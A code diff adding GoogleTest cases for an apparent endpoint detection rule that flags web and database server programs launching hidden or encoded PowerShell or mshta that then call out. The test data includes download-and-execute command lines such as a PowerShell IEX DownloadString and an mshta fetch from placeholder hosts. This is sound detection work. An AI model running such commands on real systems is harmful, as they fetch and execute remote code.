@@ -407,6 +407,152 @@ TEST(TaskCallback, clocks_of_the_activity_do_not_matter) {
   EXPECT_EQ(w.last().last_seen, kNoon + 10s);
 }
 
+// ---------------------------------------------------------------------------- server programs
+
+constexpr std::string_view kTomcat = "C:\\Program Files\\Tomcat 9.0\\bin\\Tomcat9.exe";
+// "whoami", which does nothing else.
+constexpr std::string_view kEncoded = "powershell -enc dwBoAG8AYQBtAGkA";
+
+Event below(std::string_view parent, Time at, std::string_view line,
+            std::string_view image = kPowershell, std::string_view guid = kGuid) {
+  Event e = testing_support::process_create(at, "ws1", guid, image, line);
+  e.parent_image = parent;
+  e.parent_command_line = parent;
+  e.parent_process_guid = kChildGuid;
+  return e;
+}
+
+TEST(TaskCallback, server_program_that_starts_a_hidden_script_engine_which_calls_out) {
+  World w({}, ScopeSettings::standard());
+  ASSERT_EQ(w.observe(below(kTomcat, kNoon, "powershell -W Hidden -enc dwBoAG8AYQBtAGkA")), 1u);
+  EXPECT_EQ(w.last().severity, Severity::medium);
+  EXPECT_EQ(w.last().confidence, Confidence::medium);
+  EXPECT_EQ(w.last().title, "Tomcat9.exe ran powershell");
+  EXPECT_EQ(w.connect(kNoon + 1s, kGuid, "192.168.3.5", 443), 0u) << "no address that is rented";
+  ASSERT_EQ(w.connect(kNoon + 1s, kGuid, kRented, 443), 1u);
+
+  const Finding& f = w.last();
+  EXPECT_EQ(f.id, w.out.found[0].id);
+  EXPECT_EQ(f.severity, Severity::high);
+  EXPECT_EQ(f.confidence, Confidence::high);
+  EXPECT_EQ(f.title, "Tomcat9.exe ran powershell, which called out");
+  EXPECT_THAT(f.techniques, ElementsAre("T1190", "T1583.004"));
+  EXPECT_EQ(f.process.parent_image, kTomcat);
+  EXPECT_EQ(f.destination.port, 443);
+  EXPECT_EQ(*evidence<std::string>(f, "server_program"), "Tomcat9.exe");
+  EXPECT_EQ(evidence<std::string>(f, "task_name"), nullptr);
+  EXPECT_THAT(f.reasons, Contains(HasSubstr("2 of 2 stages")));
+  EXPECT_EQ(f.records.size(), 2u);
+}
+
+struct ServedCase {
+  std::string name;
+  std::string parent;
+  std::string image;
+  std::string line;
+  std::size_t want;
+  Severity ran;
+  Severity called;
+  friend void PrintTo(const ServedCase& c, std::ostream* os) { *os << c.name; }
+};
+
+class ServedProcess : public testing::TestWithParam<ServedCase> {};
+
+TEST_P(ServedProcess, Judged) {
+  const ServedCase& c = GetParam();
+  World w;
+  ASSERT_EQ(w.observe(below(c.parent, kNoon, c.line, c.image)), c.want);
+  if (c.want == 1) {
+    EXPECT_EQ(w.last().severity, c.ran);
+  }
+  ASSERT_EQ(w.connect(kNoon + 1s, kGuid, kRented, 443, c.image), c.want);
+  if (c.want == 1) {
+    EXPECT_EQ(w.last().severity, c.called);
+  }
+}
+
+constexpr auto kLow = Severity::low;
+constexpr auto kMedium = Severity::medium;
+constexpr auto kHigh = Severity::high;
+
+INSTANTIATE_TEST_SUITE_P(
+    , ServedProcess,
+    testing::Values(
+        ServedCase{"hidden_alone", "C:\\inetpub\\w3wp.exe", "C:\\W\\powershell.exe",
+                   "powershell -w hidden -c dir", 1, kLow, kMedium},
+        ServedCase{"encoded_alone", "C:\\db\\sqlservr.exe", "C:\\W\\powershell.exe",
+                   std::string(kEncoded), 1, kLow, kMedium},
+        ServedCase{"hidden_in_any_case", "C:\\DB\\SQLSERVR.EXE", "C:\\W\\cmd.exe",
+                   "cmd /c powershell -w 1 -c iwr http://a", 1, kMedium, kHigh},
+        ServedCase{"remote_code", "C:\\J\\java.exe", "C:\\W\\mshta.exe", "mshta http://a/b.hta", 1,
+                   kLow, kMedium},
+        ServedCase{"downloads_and_evaluates", "C:\\J\\java.exe", "C:\\W\\powershell.exe",
+                   "powershell IEX (New-Object Net.WebClient).DownloadString('http://a')", 1,
+                   kMedium, kHigh},
+        ServedCase{"merely_downloads", "C:\\J\\java.exe", "C:\\W\\powershell.exe",
+                   "powershell -c iwr http://a -OutFile b", 0, kNo, kNo},
+        ServedCase{"merely_evaluates", "C:\\J\\java.exe", "C:\\W\\powershell.exe",
+                   "powershell -c IEX $x", 0, kNo, kNo},
+        ServedCase{"runs_its_script", "C:\\J\\java.exe", "C:\\W\\powershell.exe",
+                   "powershell -NoProfile -ExecutionPolicy Bypass -File C:\\build\\step.ps1", 0,
+                   kNo, kNo},
+        ServedCase{"no_script_engine", "C:\\J\\java.exe", "C:\\W\\git.exe", "git -w hidden", 0, kNo,
+                   kNo},
+        ServedCase{"management_agent", "C:\\W\\wsmprovhost.exe", "C:\\W\\powershell.exe",
+                   std::string(kEncoded), 0, kNo, kNo},
+        ServedCase{"name_that_only_ends_so", "C:\\J\\myjava.exe", "C:\\W\\powershell.exe",
+                   std::string(kEncoded), 0, kNo, kNo},
+        ServedCase{"no_parent", "", "C:\\W\\powershell.exe", std::string(kEncoded), 0, kNo, kNo}),
+    [](const auto& p) { return p.param.name; });
+
+TEST(TaskCallback, runs_of_one_engine_below_one_server_program_are_one_finding) {
+  World w;
+  w.observe(below(kTomcat, kNoon, "powershell -w hidden -c dir"));
+  EXPECT_EQ(w.observe(below(kTomcat, kNoon + 1h, "powershell -w hidden -c whoami")), 0u);
+  EXPECT_EQ(w.observe(below(kTomcat, kNoon + 2h, std::string(kEncoded) + " -w hidden")), 1u)
+      << "worse than before";
+  EXPECT_EQ(w.last().id, w.out.found[0].id);
+  EXPECT_EQ(*evidence<std::int64_t>(w.last(), "runs"), 3);
+
+  EXPECT_EQ(w.observe(below(kTomcat, kNoon, "mshta http://a/b", "C:\\W\\mshta.exe")), 1u);
+  EXPECT_NE(w.last().id, w.out.found[0].id) << "another engine";
+  EXPECT_EQ(w.observe(below("C:\\w3wp.exe", kNoon, kEncoded)), 1u);
+  EXPECT_NE(w.last().id, w.out.found[0].id) << "another server program";
+  Event elsewhere = below(kTomcat, kNoon, kEncoded);
+  elsewhere.computer = "ws2";
+  EXPECT_EQ(w.observe(elsewhere), 1u);
+  EXPECT_NE(w.last().id, w.out.found[0].id) << "another machine";
+}
+
+TEST(TaskCallback, same_command_by_a_task_and_by_a_server_program_are_two_chains) {
+  World w;
+  w.create(kNoon, "\\T", task_xml("powershell", "-w hidden -c dir"));
+  ASSERT_EQ(w.observe(below(kTomcat, kNoon + 9s, "powershell -w hidden -c dir")), 1u);
+  EXPECT_NE(w.last().id, w.out.found[0].id);
+  EXPECT_EQ(w.last().severity, Severity::low);
+}
+
+TEST(TaskCallback, list_of_server_programs_is_the_users) {
+  World w({.server_programs = {"GitLab.exe"}});
+  EXPECT_EQ(w.observe(below(kTomcat, kNoon, kEncoded)), 0u);
+  EXPECT_EQ(w.observe(below("D:\\gitlab.exe", kNoon, kEncoded)), 1u);
+  World none({.server_programs = {}});
+  EXPECT_EQ(none.observe(below(kTomcat, kNoon, kEncoded)), 0u);
+}
+
+TEST(TaskCallback, server_programs_are_file_names) {
+  for (const std::string bad : {"", ".exe", "tomcat", "C:\\x\\tomcat9.exe", "tomcat*.exe"}) {
+    const auto settings = checked(TaskCallbackSettings{.server_programs = {bad}});
+    ASSERT_FALSE(settings) << bad;
+    EXPECT_THAT(settings.error().message, HasSubstr("task_callback.server_programs"));
+  }
+  EXPECT_TRUE(checked(TaskCallbackSettings{}));
+  EXPECT_TRUE(
+      checked(TaskCallbackSettings{.server_programs = std::vector<std::string>(64, "a.exe")}));
+  EXPECT_FALSE(
+      checked(TaskCallbackSettings{.server_programs = std::vector<std::string>(65, "a.exe")}));
+}
+
 TEST(TaskCallback, answer_and_sweep) {
   World w;
   w.create(kNoon, "\\T", task_xml("powershell", "-w hidden"));
